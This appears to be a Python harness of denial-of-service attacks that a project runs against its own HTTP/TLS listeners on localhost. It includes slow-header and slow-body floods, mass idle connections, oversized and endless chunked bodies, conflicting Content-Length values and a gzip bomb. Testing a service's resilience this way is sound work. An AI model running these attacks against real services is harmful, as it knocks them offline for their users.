"""
What somebody does who wants a listener to serve nobody else: each attack runs until it is ended.

An attack speaks to one listener as whoever may connect to it: to the partner's with the
partner's own certificate, to ours with a token. What it sends is made by hand, because no
client would send it.
"""

import asyncio
import gzip
import ssl
from collections.abc import Callable, Coroutine, Mapping
from contextlib import suppress
from dataclasses import dataclass, replace
from functools import cache, partial
from pathlib import Path
from typing import Final

from exchange.web.tls import client_context

CONNECTIONS: Final = 400
"""More than a listener takes at once."""
OPEN_CONNECTIONS: Final = 10_000
MEGABYTE: Final = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Shown:
    """The files of whoever speaks over TLS: whom it believes, and what it shows."""

    authorities: Path | None
    certificate: Path | None
    key: Path | None

    @cache  # noqa: B019  # the few there are last as long as the process
    def context(self) -> ssl.SSLContext:
        """Return how to connect."""
        return client_context(
            authorities=self.authorities, certificate=self.certificate, key=self.key
        )


@dataclass(frozen=True, slots=True)
class Aim:
    """A listener as its attacker sees it, in what another process can be told."""

    port: int
    tls: Shown | None
    path: bytes
    media_type: bytes
    asks: bytes
    """A path whose answer is large."""
    fields: bytes
    """What every head has besides: a token, where one is wanted."""

    def head(self, *fields: bytes, method: bytes = b"POST") -> bytes:
        """Return a head up to the empty line."""
        path = self.path if method == b"POST" else self.asks
        lines = [method + b" " + path + b" HTTP/1.1", b"Host: victim", *fields]
        return b"\r\n".join(lines) + b"\r\n" + self.fields

    def post(self, *fields: bytes) -> bytes:
        """Return a whole head that announces a body of the listener's media type."""
        return self.head(b"Content-Type: " + self.media_type, *fields) + b"\r\n"


Attack = Callable[[Aim], Coroutine[None, None, None]]


async def _connected(aim: Aim) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    if aim.tls is None:
        return await asyncio.open_connection("127.0.0.1", aim.port)
    return await asyncio.open_connection("127.0.0.1", aim.port, ssl=aim.tls.context())


async def _again_and_again(
    aim: Aim, once: Callable[[Aim], Coroutine[None, None, None]], many: int
) -> None:
    """Do *once* on *many* connections at the same time, and on a new one when it is over."""

    async def repeat() -> None:
        while True:
            with suppress(OSError, ssl.SSLError, asyncio.IncompleteReadError):
                await once(aim)
            await asyncio.sleep(0.05)

    async with asyncio.TaskGroup() as tasks:
        for _ in range(many):
            tasks.create_task(repeat())


async def _dribble(aim: Aim, first: bytes, drop: bytes, *, every: float = 0.5) -> None:
    """Send *first*, then *drop* now and then, and read nothing."""
    reader, writer = await _connected(aim)
    try:
        writer.write(first)
        while not reader.at_eof() and not writer.is_closing():
            writer.write(drop)
            await writer.drain()
            await asyncio.sleep(every)
    finally:
        writer.transport.abort()


async def _pour(aim: Aim, first: bytes, more: bytes) -> None:
    """Send *first* and then *more* as fast as it is taken, without reading any answer."""
    reader, writer = await _connected(aim)
    reader._transport.pause_reading()  # type: ignore[attr-defined]  # noqa: SLF001  # it never reads
    try:
        writer.write(first)
        while not writer.is_closing():
            writer.write(more)
            await writer.drain()
            await asyncio.sleep(0)  # nothing waits where the connection is broken
    finally:
        writer.transport.abort()


async def _say(aim: Aim, octets: bytes) -> None:
    """Send *octets* and read whatever is answered until the connection is closed, for a while."""
    reader, writer = await _connected(aim)
    try:
        writer.write(octets)
        await writer.drain()
        with suppress(TimeoutError):
            async with asyncio.timeout(3):
                await reader.read()
    finally:
        writer.transport.abort()


def _on(many: int, once: Callable[[Aim], Coroutine[None, None, None]]) -> Attack:
    return partial(_repeated, many, once)


async def _repeated(
    many: int, once: Callable[[Aim], Coroutine[None, None, None]], aim: Aim
) -> None:
    await _again_and_again(aim, once, many)


async def slow_heads(aim: Aim) -> None:
    """Send a head one octet at a time."""
    await _dribble(aim, aim.head(), b"X")


async def slow_bodies(aim: Aim) -> None:
    """Announce a body, and send it one octet at a time."""
    await _dribble(aim, aim.post(b"Content-Length: 100000"), b"{")


async def expects(aim: Aim) -> None:
    """Ask to be told to go on, and do not."""
    await _dribble(aim, aim.post(b"Content-Length: 100000", b"Expect: 100-continue"), b"")


async def never_read(aim: Aim) -> None:
    """Ask for much, and take none of it."""
    asked = aim.head(method=b"GET") + b"\r\n"
    await _pour(aim, b"", asked * 100)


async def pipelined(aim: Aim) -> None:
    """Ask a thousand times at once, and read the answers slowly."""
    reader, writer = await _connected(aim)
    try:
        writer.write((aim.head(method=b"GET") + b"\r\n") * 1000)
        while await reader.read(1024):  # noqa: ASYNC110  # it reads as slowly as it can
            await asyncio.sleep(0.01)
    finally:
        writer.transport.abort()


async def many_fields(aim: Aim) -> None:
    """Send a head with ten thousand fields."""
    await _say(aim, aim.head(*(b"X-%d: y" % number for number in range(10_000))) + b"\r\n")


async def large_field(aim: Aim) -> None:
    """Send a head with a field of four megabytes."""
    await _say(aim, aim.head(b"X: " + b"y" * (4 * MEGABYTE)) + b"\r\n")


async def connects(aim: Aim) -> None:
    """Connect, and hang up."""
    _, writer = await _connected(aim)
    writer.transport.abort()


async def open_connections(aim: Aim) -> None:
    """Open ten thousand connections that say nothing, not even the first word of a handshake."""
    held: list[asyncio.StreamWriter] = []
    plain = replace(aim, tls=None)
    many = asyncio.Semaphore(64)

    async def hold() -> None:
        async with many:
            with suppress(OSError):
                held.append((await _connected(plain))[1])

    try:
        async with asyncio.TaskGroup() as tasks:
            for _ in range(OPEN_CONNECTIONS):
                tasks.create_task(hold())
        await asyncio.Event().wait()
    finally:
        for writer in held:
            writer.transport.abort()


async def garbled_handshakes(aim: Aim) -> None:
    """Say something else where a handshake belongs."""
    plain = replace(aim, tls=None)
    await _say(plain, b"\x16\x03\x01\x40\x00\x01" + b"\xff" * 20_000)


async def huge_line(aim: Aim) -> None:
    """Send as much as a request may hold, and one line of it."""
    await _say(aim, _whole(aim, b'{"payload":"' + b"A" * (4 * MEGABYTE - 20) + b'"}'))


async def deep_json(aim: Aim) -> None:
    """Send lines that are nothing but opening brackets."""
    await _say(aim, _whole(aim, b"\n".join([b"[" * 60_000] * 4)))


async def tiny_lines(aim: Aim) -> None:
    """Send two million lines."""
    await _say(aim, _whole(aim, b"{\n" * (2 * MEGABYTE - 1)))


async def too_much(aim: Aim) -> None:
    """Send more than a request may hold, in chunks, without end."""
    chunk = b"10000\r\n" + b"x" * 65_536 + b"\r\n"
    await _pour(aim, aim.post(b"Transfer-Encoding: chunked"), chunk)


async def tiny_chunks(aim: Aim) -> None:
    """Send a body of chunks of one octet, each with an extension that is longer."""
    chunk = b"1;" + b"e" * 500 + b"\r\nx\r\n"
    await _pour(aim, aim.post(b"Transfer-Encoding: chunked"), chunk * 100)


async def endless_chunk_size(aim: Aim) -> None:
    """Send a chunk whose size never ends."""
    await _pour(aim, aim.post(b"Transfer-Encoding: chunked"), b"0" * 65_536)


async def endless_trailers(aim: Aim) -> None:
    """End a body with trailers that never end."""
    await _pour(aim, aim.post(b"Transfer-Encoding: chunked") + b"0\r\n", b"X: y\r\n" * 1000)


async def lying_lengths(aim: Aim) -> None:
    """Announce a length that is not the length, in the ways in which that can be done."""
    for fields in (
        (b"Content-Length: 10",),
        (b"Content-Length: 5", b"Content-Length: 6"),
        (b"Content-Length: 5", b"Transfer-Encoding: chunked"),
        (b"Content-Length: -1",),
        (b"Content-Length: 99999999999999999999999999",),
        (b"Content-Length: +5",),
        (b"Transfer-Encoding: chunked, identity",),
    ):
        await _say(aim, aim.post(*fields) + b"{}\n{}")


async def compressed(aim: Aim) -> None:
    """Send a small body that would be a large one, were it opened."""
    packed = gzip.compress(b"\0" * (64 * MEGABYTE))
    length = b"Content-Length: %d" % len(packed)
    await _say(aim, aim.post(length, b"Content-Encoding: gzip") + packed)


def _whole(aim: Aim, body: bytes) -> bytes:
    return aim.post(b"Content-Length: %d" % len(body)) + body


ATTACKS: Mapping[str, Attack] = {
    "slow heads": _on(CONNECTIONS, slow_heads),
    "slow bodies": _on(CONNECTIONS, slow_bodies),
    "expect, and no body": _on(CONNECTIONS, expects),
    "answers never read": _on(CONNECTIONS, never_read),
    "pipelining": _on(50, pipelined),
    "ten thousand fields": _on(20, many_fields),
    "a field of 4 MB": _on(20, large_field),
    "connection flood": _on(100, connects),
    "10,000 connections": open_connections,
    "garbled handshakes": _on(50, garbled_handshakes),
    "a line of 4 MB": _on(20, huge_line),
    "deep JSON": _on(20, deep_json),
    "two million lines": _on(20, tiny_lines),
    "a body without end": _on(20, too_much),
    "tiny chunks": _on(20, tiny_chunks),
    "a chunk size without end": _on(20, endless_chunk_size),
    "trailers without end": _on(20, endless_trailers),
    "lengths that lie": _on(20, lying_lengths),
    "a compressed body": _on(20, compressed),
}
